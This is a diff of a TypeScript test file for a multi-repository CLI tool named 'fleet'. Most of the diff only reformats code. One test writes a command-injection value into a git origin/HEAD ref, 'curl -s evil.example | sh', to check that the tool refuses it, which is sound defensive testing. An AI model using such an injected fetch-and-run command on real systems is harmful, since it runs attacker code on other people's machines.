@@ -86,7 +86,10 @@ describe('installing fleet', () => {
     const packed = execFileSync('npm', ['pack', '--silent', '--pack-destination', dir], { encoding: 'utf8' }).trim().split('\n').pop()!;
     const tarball = join(dir, packed);
     const prefix = join(dir, 'global');
-    execFileSync('npm', ['install', '--global', '--prefix', prefix, '--offline', '--no-audit', '--no-fund', tarball], { encoding: 'utf8', env: { ...process.env, npm_config_cache: join(dir, 'cache') } });
+    execFileSync('npm', ['install', '--global', '--prefix', prefix, '--offline', '--no-audit', '--no-fund', tarball], {
+      encoding: 'utf8',
+      env: { ...process.env, npm_config_cache: join(dir, 'cache') },
+    });
     const elsewhere = join(dir, 'elsewhere');
     mkdirSync(elsewhere);
     const r = fleet(['--version'], elsewhere, join(prefix, 'bin', 'fleet'));
@@ -117,7 +120,11 @@ describe('installing fleet', () => {
 /** Does an npm engines range (`a || b`, comparators `>= > <= < ^ ~`, `18`, `20.x`) admit `v`? Enough for engines fields. */
 function admits(range: string, v: number[]): boolean {
   const cmp = (a: number[], b: number[]) => a.map((x, i) => x - (b[i] ?? 0)).find((d) => d !== 0) ?? 0;
-  const parse = (s: string) => s.split('.').map((p) => (/^\d+$/.test(p) ? Number(p) : NaN)).filter((n) => !Number.isNaN(n));
+  const parse = (s: string) =>
+    s
+      .split('.')
+      .map((p) => (/^\d+$/.test(p) ? Number(p) : NaN))
+      .filter((n) => !Number.isNaN(n));
   return range.split('||').some((alt) =>
     alt
       .replace(/(>=|<=|>|<|\^|~|=)\s+/g, '$1')
@@ -126,16 +133,16 @@ function admits(range: string, v: number[]): boolean {
       .split(/\s+/)
       .filter(Boolean)
       .every((c) => {
-      const [, op = '', ver = ''] = /^(>=|<=|>|<|\^|~|=)?v?(.*)$/.exec(c)!;
-      const w = parse(ver);
-      if (op === '>=') return cmp(v, w) >= 0;
-      if (op === '>') return cmp(v, w) > 0;
-      if (op === '<=') return cmp(v, w) <= 0;
-      if (op === '<') return cmp(v, w) < 0;
-      if (op === '^') return cmp(v, w) >= 0 && v[0] === w[0];
-      if (op === '~') return cmp(v, w) >= 0 && v[0] === w[0] && (w.length < 2 || v[1] === w[1]);
-      return w.every((x, i) => x === v[i]);
-    }),
+        const [, op = '', ver = ''] = /^(>=|<=|>|<|\^|~|=)?v?(.*)$/.exec(c)!;
+        const w = parse(ver);
+        if (op === '>=') return cmp(v, w) >= 0;
+        if (op === '>') return cmp(v, w) > 0;
+        if (op === '<=') return cmp(v, w) <= 0;
+        if (op === '<') return cmp(v, w) < 0;
+        if (op === '^') return cmp(v, w) >= 0 && v[0] === w[0];
+        if (op === '~') return cmp(v, w) >= 0 && v[0] === w[0] && (w.length < 2 || v[1] === w[1]);
+        return w.every((x, i) => x === v[i]);
+      }),
   );
 }
 
@@ -147,7 +154,13 @@ describe('running from any folder', () => {
     await createRepo(fleetDir, 'b', { 'README.md': '# b\n' }, { clone: false });
     writeFileSync(join(fleetDir, 'more.txt'), './b.git\n');
     writeFileSync(join(fleetDir, 'fix.sh'), 'echo "fixed by $FLEET_LANE" > FIXED\n');
-    const file = writeFleetFile(fleetDir, { name: 'anywhere', directive: 'x', run: 'sh "$FLEET_FILE_DIR/fix.sh"', targets: [{ repo: './a.git' }], targets_file: 'more.txt' });
+    const file = writeFleetFile(fleetDir, {
+      name: 'anywhere',
+      directive: 'x',
+      run: 'sh "$FLEET_FILE_DIR/fix.sh"',
+      targets: [{ repo: './a.git' }],
+      targets_file: 'more.txt',
+    });
     const elsewhere = join(dir, 'elsewhere');
     mkdirSync(elsewhere);
     const r = fleet(['run', file, '--quiet'], elsewhere);
@@ -193,7 +206,7 @@ describe('the base of a local lane', () => {
     expect(r.stdout).toContain('git branch main origin/main');
   });
 
-  it("refuses an origin/HEAD that names no branch, and never puts its text in a command to run", async () => {
+  it('refuses an origin/HEAD that names no branch, and never puts its text in a command to run', async () => {
     const made = await createRepo(dir, 'svc', { 'README.md': '# svc\n' });
     git(made.dir, 'checkout', '-q', '-b', 'wip');
     writeFileSync(join(made.dir, '.git', 'refs', 'remotes', 'origin', 'HEAD'), 'ref: refs/remotes/origin/main; curl -s evil.example | sh #\n');
